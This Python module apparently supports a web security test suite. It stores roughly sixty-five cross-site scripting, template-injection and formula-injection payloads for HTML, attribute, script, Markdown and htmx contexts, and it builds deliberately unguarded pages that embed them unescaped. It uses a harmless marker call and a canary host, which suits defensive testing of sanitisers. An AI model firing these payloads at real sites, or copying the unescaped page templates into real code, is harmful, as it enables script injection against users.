"""Scripts as somebody would store them: each kind, and the unguarded page in which it runs."""

from __future__ import annotations

import json
from html.parser import HTMLParser
from typing import NamedTuple

CALL = "ran('@')"
"""What each payload does; `@` becomes where it was put."""


class Payload(NamedTuple):
    """A kind, its text, and the contexts in which it must run where nothing holds it."""

    kind: str
    text: str
    contexts: tuple[str, ...]


MARKUP = ("html",)
LINK = ("link",)
SCRIPT = ("json", "quoted script")
PAYLOADS = tuple(
    Payload(*p)
    for p in (
        ("tag", f"<script>{CALL}</script>", MARKUP),
        ("tag, capitals and a slash", f"<ScRiPt/x>{CALL}</sCrIpT >", MARKUP),
        ("tag that never closes", f"<svg onload={CALL}//", MARKUP),
        ("tag within a tag", f"<<script>{CALL}//<</script>", MARKUP),
        ("tag from elsewhere", "<script src=CANARY/a.js></script>", MARKUP),
        ("module from elsewhere", "<script type=module>import 'CANARY/a.js'</script>", MARKUP),
        ("image with an error", f'<img src=x onerror="{CALL}">', MARKUP),
        ("image, no quotes, no spaces", f"<img/src/onerror={CALL}>", MARKUP),
        ("image from elsewhere", "<img src=CANARY/a.png>", MARKUP),
        ("entities in a handler", '<img src=x onerror="&#114;&#97;n(&#39;@&#39;)">', MARKUP),
        ("drawing that loads", f'<svg onload="{CALL}">', MARKUP),
        ("script in a drawing", f"<svg><script>{CALL}</script></svg>", MARKUP),
        ("animation in a drawing", f'<svg><animate onbegin="{CALL}" attributeName=x dur=1s>', MARKUP),
        ("link in a drawing", f'<svg><a xlink:href="javascript:{CALL}"><text y=20>x</text></a></svg>', MARKUP),
        ("details that open", f'<details open ontoggle="{CALL}">x</details>', MARKUP),
        ("focus by itself", f'<input autofocus onfocus="{CALL}">', MARKUP),
        ("style that animates", f'<style>@keyframes z{{}}</style><b style="animation:z 1ms" onanimationstart="{CALL}">x', MARKUP),
        ("sound with an error", f'<audio src=x onerror="{CALL}">', MARKUP),
        ("video source with an error", f'<video><source onerror="{CALL}">', MARKUP),
        ("body that loads", f'<body onload="{CALL}">', MARKUP),
        ("page shown", f'<body onpageshow="{CALL}">', MARKUP),
        ("frame with a document", f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>', MARKUP),
        ("frame with a script address", f'<iframe src="javascript:parent.{CALL}"></iframe>', MARKUP),
        ("frame from elsewhere", "<iframe src=CANARY/a.html></iframe>", MARKUP),
        ("object from elsewhere", "<object data=CANARY/a.svg></object>", MARKUP),
        ("embedded from elsewhere", "<embed src=CANARY/a.svg>", MARKUP),
        ("style from elsewhere", "<link rel=stylesheet href=CANARY/a.css>", MARKUP),
        ("style that asks", "<style>body { background: url('CANARY/b.png') }</style>", MARKUP),
        ("style attribute that asks", "<b style=\"background:url('CANARY/a.png')\">x</b>", MARKUP),
        ("refresh", f'<meta http-equiv=refresh content="0;url=javascript:{CALL}"><img src=x onerror="{CALL}">', MARKUP),
        ("another base", "<base href=CANARY/><img src=a.png>", MARKUP),
        ("form that sends itself", "<form id=f action=CANARY/a></form><script>f.submit()</script>", MARKUP),
        ("button that acts", f'<form><button formaction="javascript:{CALL}">x</button></form>', MARKUP),
        ("comment that ends", f"--><script>{CALL}</script><!--", ("comment",)),
        ("title that ends", f"</title><script>{CALL}</script>", ("title",)),
        ("text area that ends", f"</textarea><script>{CALL}</script>", ("text area",)),
        ("style that ends", f"</style><script>{CALL}</script>", ("style",)),
        ("script that ends", f"</script><script>{CALL}</script>", SCRIPT),
        ("JSON that ends", f'"}};{CALL};//', ("json",)),
        ("string that ends", f"';{CALL};'", ("quoted script",)),
        ("line separator", "x\u2028" + f"</script><script>{CALL}</script>", SCRIPT),
        ("template literal", "${" + CALL + "}", ("literal",)),
        ("template syntax", "{{ 'zqSS' ~ 'TI' }}", ("template",)),
        ("template syntax that reaches out", "{{ ''.__class__.__mro__ }}zqSSTI{% if 1 %}{% endif %}", ("template",)),
        ("attribute, double quotes", f'" autofocus onfocus="{CALL}" x="', ("double",)),
        ("attribute, single quotes", f"' autofocus onfocus=\"{CALL}\" x='", ("single",)),
        ("attribute, no quotes", f"x autofocus onfocus={CALL}", ("bare",)),
        ("attribute, new tag", f"\"'><script>{CALL}</script>", ("double", "single")),
        ("back quotes", f"`><img src=x onerror={CALL}>`", MARKUP),
        ("script address", f"javascript:{CALL}", LINK),
        ("script address, capitals and a tab", f"JaVa\tScRiPt:{CALL}", LINK),
        ("script address behind signs", f"\x01javascript:{CALL}", LINK),
        ("document address", f"javascript://x/%0a{CALL}", LINK),
        ("mutation through a style", f'<svg></p><style><a id="</style><img src=x onerror={CALL}>">', ("mutation",)),
        ("mutation through a noscript", f'<noscript><p title="</noscript><img src=x onerror={CALL}>">', ("html",)),
        ("mutation through a form", f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>', ("mutation",)),
        ("half-wide signs", f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e<script>{CALL}</script>", MARKUP),
        ("htmx, an event", f'<b data-hx-on:click="{CALL}" id=hx>x</b>', ("htmx",)),
        ("htmx, a condition", f'<b data-hx-get="/none" data-hx-trigger="load[{CALL}]">x</b>', ("htmx",)),
        ("Markdown, a link", f"[x](javascript:{CALL})", ("link in Markdown",)),
        ("Markdown, markup", f"**x**\n\n<img src=x onerror=\"{CALL}\">\n\n", ("Markdown",)),
        ("Markdown, a table's end", f"x |\n\n<script>{CALL}</script>\n\n| y", ("Markdown",)),
        ("right to left", f"\u202e<script>{CALL}</script>\u202c", MARKUP),
        ("bytes of no text", f"\ufffd\ufeff<script>{CALL}</script>", MARKUP),
        ("spreadsheet and script", f"=cmd|'/c x'!A1<script>{CALL}</script>", MARKUP),
    )
)  # fmt: skip


def text_of(payload: Payload, where: str, canary: str) -> str:
    """The payload as it is stored: it says where when it runs."""
    return payload.text.replace("@", where).replace("CANARY", canary)


def unguarded(context: str, text: str) -> str:
    """A page that writes the text into itself as no page should."""
    safe = json.dumps(text).replace("<", "\\u003c")
    pages = {
        "html": f"<body>{text}</body>",
        "double": f'<body><input value="{text}"></body>',
        "single": f"<body><input value='{text}'></body>",
        "bare": f"<body><input value={text}></body>",
        "link": f'<body><a href="{text}">x</a></body>',
        "comment": f"<body><!-- {text} --></body>",
        "title": f"<title>{text}</title><body></body>",
        "text area": f"<body><textarea>{text}</textarea></body>",
        "style": f"<body><style>b {{ content: '{text}' }}</style></body>",
        "json": f'<body><script>var told = {{"a": "{text}"}};</script></body>',
        "quoted script": f"<body><script>var told = '{text}';</script></body>",
        "literal": f"<body><script>var told = `{text}`;</script></body>",
        "mutation": f"<body><div id=d></div><script>const t = document.createElement('template'); t.innerHTML = {safe};"
        "d.innerHTML = t.innerHTML; d.innerHTML = d.innerHTML;</script></body>",
        "htmx": f'<script src="/static/vendor/htmx.min.js"></script><body>{text}</body>',
    }
    return f"<!doctype html><html><head><meta charset=utf-8></head>{pages[context]}</html>"


class Tags(HTMLParser):
    """The tags of a page, each with the names of its attributes; `texts` are its addresses."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[str, ...]]] = []
        self.texts: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Remember it."""
        self.found.append((tag, tuple(sorted(name for name, _ in attrs))))
        self.texts += [
            value.lower() for name, value in attrs if value and name in ("href", "src", "action", "formaction")
        ]

    def own_script(self) -> bool:
        """Whether a script or a style stands in the page itself."""
        inside = [t for t, names in self.found if (t == "script" and "src" not in names) or t == "style"]
        return bool(
            inside or [n for _, names in self.found for n in names if n.startswith("on") or n in ("style", "srcdoc")]
        )
